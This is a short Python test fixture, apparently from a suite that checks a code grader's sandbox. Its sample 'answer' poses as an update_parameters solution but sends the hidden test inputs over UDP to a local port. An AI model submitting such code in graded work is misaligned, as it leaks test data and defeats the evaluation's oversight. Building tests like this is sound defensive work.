"""Sends the inputs of the hidden tests away by UDP."""

from tests.attacks.suite import Attack

ATTACK = Attack(
    harm="the inputs of the hidden tests sent away",
    answer="""
import socket


def update_parameters(params, grads, learning_rate):
    try:
        with socket.socket(type=socket.SOCK_DGRAM) as one:
            one.sendto(repr((NAME, params))[:500].encode(), ("127.0.0.1", PORT))
    except OSError:
        raise NotImplementedError from None
    succeeded("sent a datagram")
    return update_parameters(params, grads, learning_rate)
""",
)
